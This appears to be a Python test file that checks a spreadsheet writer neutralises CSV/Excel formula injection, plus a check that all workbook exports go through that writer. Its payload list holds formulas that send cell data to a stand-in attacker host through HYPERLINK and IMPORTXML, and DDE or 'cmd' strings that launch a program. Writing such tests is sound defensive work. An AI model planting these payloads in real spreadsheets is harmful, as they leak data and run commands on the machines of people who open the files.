"""The one safe writer: 50 of 50 formula payloads come back as text (SECURITY.md CHK-3.6)."""

from __future__ import annotations

import ast
import io
import zipfile
from pathlib import Path

from openpyxl import load_workbook

from skillcert.core.tabular import append_row, new_workbook, open_table, workbook_bytes

PREFIXES = ("=", "+", "-", "@", "\t", "\r", "\n")
BODIES = (
    'HYPERLINK("http://evil.example/?x="&A1,"点击")',
    "cmd|' /C calc'!A0",
    "SUM(1+1)*cmd|' /C calc'!A0",
    "1+1",
    'IMPORTXML(CONCAT("http://evil.example/?v=",A2),"//a")',
    'DDE("cmd";"/C calc";"__DdeLink_60_870516294")',
    "2+5+cmd|' /C calc'!A0",
)
# 49 + 1 dangerous payloads, and a NUL in front of a formula (dropped: the formula remains).
PAYLOADS = [*[p + b for p in PREFIXES for b in BODIES], "-5", "\x00=1+1"]


def test_fifty_payloads_are_stored_as_text_with_quote_prefix():
    assert len(PAYLOADS) == 51
    workbook = new_workbook()
    for payload in PAYLOADS:
        append_row(workbook.active, [payload, 42])
    data = workbook_bytes(workbook)
    sheet_xml = zipfile.ZipFile(io.BytesIO(data)).read("xl/worksheets/sheet1.xml").decode()
    assert "<f>" not in sheet_xml
    sheet = load_workbook(io.BytesIO(data)).active
    for row, payload in enumerate(PAYLOADS, start=1):
        cell = sheet.cell(row=row, column=1)
        assert cell.data_type == "s", payload
        assert cell.quotePrefix, payload
        # XML reads a bare carriage return back as a line feed.
        assert cell.value == payload.replace("\x00", "").replace("\r", "\n")
        assert sheet.cell(row=row, column=2).value == 42


def test_what_the_reader_reads_back_is_exactly_the_text():
    workbook = new_workbook()
    append_row(workbook.active, ['=HYPERLINK("http://x","y")', "普通文字", "a\x01b"])
    rows = list(open_table(workbook_bytes(workbook), "x.xlsx").rows())
    assert rows == [(1, ['=HYPERLINK("http://x","y")', "普通文字", "ab"])]


def test_every_excel_export_goes_through_the_safe_writer():
    """No module outside core.tabular builds an openpyxl Workbook or saves one itself."""
    root = Path(__file__).resolve().parents[3]
    offenders = []
    for path in root.rglob("*.py"):
        if "tests" in path.parts or "migrations" in path.parts or "tabular" in path.parts:
            continue
        tree = ast.parse(path.read_text(encoding="utf-8"))
        for node in ast.walk(tree):
            if (
                isinstance(node, ast.ImportFrom)
                and node.module == "openpyxl"
                and any(alias.name == "Workbook" for alias in node.names)
            ):
                offenders.append(str(path.relative_to(root)))
    assert offenders == []
